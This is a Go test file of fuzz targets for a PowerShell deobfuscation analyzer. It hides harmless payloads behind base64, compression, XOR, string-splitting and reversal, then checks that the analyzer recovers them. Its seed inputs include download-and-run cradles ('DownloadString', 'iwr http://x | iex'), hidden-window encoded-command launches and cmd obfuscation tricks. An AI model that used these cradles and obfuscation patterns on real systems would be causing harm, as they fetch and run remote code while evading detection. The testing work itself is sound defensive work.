package pwsh

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"context"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode/utf16"
	"unicode/utf8"
)

// Fuzz targets for each decoder of the deobfuscation. The unit decoders
// are checked by round trip; the decoders that live in the evaluator are
// checked end to end: a payload is hidden with one technique, and Analyze
// must give it back as a layer.

// fuzzOptions keep one analysis of fuzzed input short.
var fuzzOptions = &Options{MaxDepth: 8, MaxLayers: 16, MaxOutput: 1 << 20, MaxSteps: 200_000, Timeout: 2 * time.Second}

// payloadOf maps fuzz bytes onto a short command that survives every
// hiding technique untouched: letters, digits, spaces and a few signs.
func payloadOf(b []byte) string {
	const alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 -.:/\\_"
	var s strings.Builder
	s.WriteString("Write-Output ")
	for _, c := range b[:min(len(b), 200)] {
		s.WriteByte(alphabet[int(c)%len(alphabet)])
	}
	return strings.TrimRight(s.String(), " ")
}

// revealed reports whether some layer of r holds payload.
func revealed(r *Result, payload string) bool {
	for _, l := range r.Layers {
		if strings.Contains(strings.ToLower(l.Text), strings.ToLower(payload)) {
			return true
		}
	}
	return false
}

func checkRevealed(t *testing.T, script, payload string) {
	t.Helper()
	r := Analyze(context.Background(), script, fuzzOptions)
	if len(r.Notes) > 0 {
		// A limit cut the analysis short (the fuzzer found a slow input):
		// the payload may legitimately be missing.
		return
	}
	if !revealed(r, payload) {
		t.Fatalf("payload %q not decoded from %q; layers: %d", payload, script, len(r.Layers))
	}
}

func utf16le(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return b
}

func FuzzDecodeBase64(f *testing.F) {
	for _, s := range []string{"", "SQBFAFgA", "aGVsbG8=", "aGVsbG8", "a b\nc=", "-_-_", "====", "SQ BF AF gA"} {
		f.Add(s, []byte("hello"))
	}
	f.Fuzz(func(t *testing.T, s string, b []byte) {
		decodeBase64(s)
		for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.RawStdEncoding, base64.URLEncoding} {
			got, ok := decodeBase64(enc.EncodeToString(b))
			if !ok || !bytes.Equal(got, b) {
				t.Fatalf("round trip of %x failed: %x %v", b, got, ok)
			}
		}
	})
}

func FuzzDecodeTextEncodings(f *testing.F) {
	for _, s := range []string{"", "iex", "héllo wörld", "日本語", "\U0001F600 emoji"} {
		f.Add(s, []byte{0xff, 0xfe, 0x41, 0})
	}
	f.Fuzz(func(t *testing.T, s string, raw []byte) {
		for _, enc := range []string{"utf8", "ascii", "latin1", "unicode", "bigendianunicode", "utf32"} {
			out, _, ok := decodeBytes(enc, raw)
			if ok && !utf8.ValidString(out) {
				t.Fatalf("%s: invalid UTF-8 from %x", enc, raw)
			}
			if !utf8.ValidString(s) {
				continue
			}
			b, ok := encodeString(enc, s)
			if !ok {
				continue
			}
			back, _, ok := decodeBytes(enc, b)
			representable := enc != "ascii" && enc != "latin1" || strings.IndexFunc(s, func(r rune) bool {
				return enc == "ascii" && r > 127 || enc == "latin1" && r > 255
			}) < 0
			if !ok || representable && back != s {
				t.Fatalf("%s: %q came back as %q", enc, s, back)
			}
		}
	})
}

func FuzzDecodeInflate(f *testing.F) {
	f.Add([]byte("iex (New-Object Net.WebClient).DownloadString('http://x')"), []byte{0x1f, 0x8b, 8, 0}, true)
	f.Add([]byte{}, []byte{0x78, 0x9c}, false)
	f.Fuzz(func(t *testing.T, plain, junk []byte, gz bool) {
		const max = 1 << 16
		if out, ok := inflate(junk, gz, max); ok && len(out) > max {
			t.Fatalf("inflate gave %d bytes, limit %d", len(out), max)
		}
		var buf bytes.Buffer
		if gz {
			w := gzip.NewWriter(&buf)
			w.Write(plain)
			w.Close()
		} else {
			w, _ := flate.NewWriter(&buf, flate.BestSpeed)
			w.Write(plain)
			w.Close()
		}
		out, ok := inflate(buf.Bytes(), gz, max)
		if len(plain) <= max && (!ok || !bytes.Equal(out, plain)) {
			t.Fatalf("round trip of %d bytes failed (ok %v, got %d)", len(plain), ok, len(out))
		}
		if len(plain) > max && ok {
			t.Fatalf("%d bytes inflated past the limit", len(plain))
		}
	})
}

func FuzzDecodeEncodedCommand(f *testing.F) {
	f.Add([]byte("hello world"), "-enc")
	f.Add([]byte{}, "-EncodedCommand")
	f.Add([]byte("x"), "-e")
	f.Fuzz(func(t *testing.T, b []byte, flag string) {
		payload := payloadOf(b)
		switch strings.ToLower(flag) {
		case "-e", "-en", "-enc", "-encodedcommand", "/enc", "-ec":
		default:
			flag = "-enc"
		}
		checkRevealed(t, "powershell.exe -nop -w hidden "+flag+" "+base64.StdEncoding.EncodeToString(utf16le(payload)), payload)
	})
}

func FuzzDecodeGzipBase64(f *testing.F) {
	f.Add([]byte("stager"), true)
	f.Add([]byte(""), false)
	f.Fuzz(func(t *testing.T, b []byte, gz bool) {
		payload := payloadOf(b)
		var buf bytes.Buffer
		stream := "IO.Compression.DeflateStream"
		if gz {
			stream = "IO.Compression.GzipStream"
			w := gzip.NewWriter(&buf)
			w.Write([]byte(payload))
			w.Close()
		} else {
			w, _ := flate.NewWriter(&buf, flate.BestCompression)
			w.Write([]byte(payload))
			w.Close()
		}
		script := fmt.Sprintf("iex (New-Object IO.StreamReader(New-Object %s([IO.MemoryStream][Convert]::FromBase64String('%s'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
			stream, base64.StdEncoding.EncodeToString(buf.Bytes()))
		checkRevealed(t, script, payload)
	})
}

func FuzzDecodeCharCodesXor(f *testing.F) {
	f.Add([]byte("calc"), byte(0))
	f.Add([]byte("abc"), byte(0x55))
	f.Fuzz(func(t *testing.T, b []byte, key byte) {
		payload := payloadOf(b)
		codes := make([]string, 0, len(payload))
		for i := 0; i < len(payload); i++ {
			codes = append(codes, fmt.Sprint(int(payload[i]^key)))
		}
		var script string
		if key == 0 {
			script = "iex (-join ([char[]](" + strings.Join(codes, ",") + ")))"
		} else {
			script = fmt.Sprintf("iex (-join ((%s) | ForEach-Object { [char]($_ -bxor %d) }))", strings.Join(codes, ","), key)
		}
		checkRevealed(t, script, payload)
	})
}

func FuzzDecodeFormatConcatReverse(f *testing.F) {
	f.Add([]byte("hello"), uint8(3), uint8(0))
	f.Add([]byte("x"), uint8(1), uint8(1))
	f.Add([]byte("payload"), uint8(7), uint8(2))
	f.Fuzz(func(t *testing.T, b []byte, cut uint8, how uint8) {
		payload := payloadOf(b)
		n := 1 + int(cut)%len(payload)
		var parts []string
		for i := 0; i < len(payload); i += n {
			parts = append(parts, payload[i:min(len(payload), i+n)])
		}
		var script string
		switch how % 4 {
		case 0: // concatenation
			script = "iex ('" + strings.Join(parts, "'+'") + "')"
		case 1: // format operator, pieces in reverse order
			var spec strings.Builder
			var args []string
			for i := range parts {
				fmt.Fprintf(&spec, "{%d}", len(parts)-1-i)
			}
			for i := len(parts) - 1; i >= 0; i-- {
				args = append(args, "'"+parts[i]+"'")
			}
			script = fmt.Sprintf("iex (\"%s\" -f %s)", spec.String(), strings.Join(args, ","))
		case 2: // reversal
			r := []byte(payload)
			for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
				r[i], r[j] = r[j], r[i]
			}
			script = fmt.Sprintf("$s = '%s'; iex (-join $s[-1..-($s.Length)])", r)
		case 3: // junk characters split and replaced
			script = fmt.Sprintf("iex (('%s' -split '~') -join '').Replace('#','')", strings.Join(parts, "~#"))
		}
		checkRevealed(t, script, payload)
	})
}

func FuzzDecodeCommandLines(f *testing.F) {
	for _, s := range []string{`cmd /c "set x=pow&& call %x%ershell -c whoami"`, `cmd.exe /v:on /c "set a=iex&&echo !a!"`,
		`powershell -w 1 -c "iwr http://x | iex"`, `"C:\a b\cmd.exe" /c ^p^o^w^e^r^s^h^e^l^l -c calc`, `mshta vbscript:Execute("x")`, ``} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		args := splitArgs(line)
		if len(args) > len(line)+1 {
			t.Fatalf("%d arguments from %d bytes", len(args), len(line))
		}
		segs := splitCmdLine(line)
		if len(segs) > len(line)+1 {
			t.Fatalf("%d cmd segments from %d bytes", len(segs), len(line))
		}
		out := expandPercentVars(line, map[string]string{"x": "powershell", "comspec": `C:\Windows\system32\cmd.exe`})
		if len(out) > len(line)*len(`C:\Windows\system32\cmd.exe`)+1 {
			t.Fatalf("expansion of %d bytes gave %d", len(line), len(out))
		}
		r := Analyze(context.Background(), line, fuzzOptions)
		if r.Verdict == "" || len(r.Layers) == 0 || len(r.Layers) > fuzzOptions.MaxLayers+1 {
			t.Fatalf("verdict %q with %d layers", r.Verdict, len(r.Layers))
		}
	})
}

func FuzzAnalyze(f *testing.F) {
	for _, s := range tokenizerSeeds() {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		start := time.Now()
		r := Analyze(context.Background(), src, fuzzOptions)
		if took := time.Since(start); took > 10*fuzzOptions.Timeout {
			t.Fatalf("analysis took %v, timeout %v", took, fuzzOptions.Timeout)
		}
		total := 0
		for _, l := range r.Layers {
			total += len(l.Text)
		}
		if total > fuzzOptions.MaxOutput+len(src)+len(r.Layers)*len(src) {
			t.Fatalf("%d bytes of layers from %d bytes of input", total, len(src))
		}
		if r.Score < 0 || r.Score > 100 {
			t.Fatalf("score %d", r.Score)
		}
		for _, fd := range r.Findings {
			if fd.Layer < 0 || fd.Layer >= len(r.Layers) || fd.Start < 0 || fd.Start > fd.End || fd.End > len(r.Layers[fd.Layer].Text) {
				t.Fatalf("finding %s span %d:%d in layer %d of %d", fd.ID, fd.Start, fd.End, fd.Layer, len(r.Layers))
			}
		}
	})
}
